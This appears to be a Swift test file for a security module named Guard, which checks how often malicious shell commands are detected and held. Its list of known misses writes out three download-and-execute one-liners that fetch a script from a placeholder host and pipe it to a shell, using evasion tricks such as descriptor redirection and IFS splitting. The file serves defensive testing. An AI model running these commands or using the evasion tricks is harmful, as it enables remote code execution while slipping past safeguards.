import Testing

@testable import Guard

/// The rate of detection on commands of the kinds that published reports describe.
struct MaliciousCommandTests {
  /// The commands that are not detected, held-out ones included.
  private static let missed: Set<String> = [
    // A descriptor that was opened on the output of a download.
    "exec 3< <(curl -s http://fix.example/s); bash <&3",
    // A file whose name is not in the text.
    "f=/tmp/.$RANDOM; curl -s http://203.0.113.7/s -o \"$f\" && sh \"$f\"",
    // Words with a separator that the text itself defines between them.
    "IFS=,;c=curl,-s,http://fix.example/s;$c|sh",
  ]

  @Test(arguments: ["malicious-linux.txt", "malicious-windows.txt"], [false, true])
  func `at least nineteen in twenty malicious commands are detected`(file: String, isHeldOut: Bool) throws {
    let commands = try CommandCorpus(named: file).commands.filter { $0.isHeldOut == isHeldOut }
    let missed = commands.filter { assess($0.text).severity == .none }
    #expect(missed.count * 20 <= commands.count)
    #expect(Set(missed.map(\.line)).isSubset(of: Self.missed))
  }

  @Test func `nineteen in twenty commands by people who did not know the guard are detected`() throws {
    let commands = try CommandCorpus(named: "malicious-blind.txt").commands
    #expect(commands.count > 150)
    #expect(commands.count { assess($0.text).severity == .none } * 20 <= commands.count)
  }

  @Test func `most malicious commands for Linux are held in a terminal`() throws {
    let commands = try CommandCorpus(named: "malicious-linux.txt").commands
    #expect(commands.count >= 100)
    #expect(commands.count { assess($0.text).severity == .hold } * 100 >= commands.count * 85)
  }

  @Test(arguments: ["malicious-linux.txt", "malicious-windows.txt"])
  func `a relay gets a report of every malicious command, and nothing is held for it`(file: String) throws {
    for command in try CommandCorpus(named: file).commands {
      let there = assess(command.text, for: .relay)
      let here = assess(command.text)
      #expect(there.severity == min(here.severity, .notice), "\(command.line)")
      #expect(there.reasons == here.reasons)
    }
  }
}
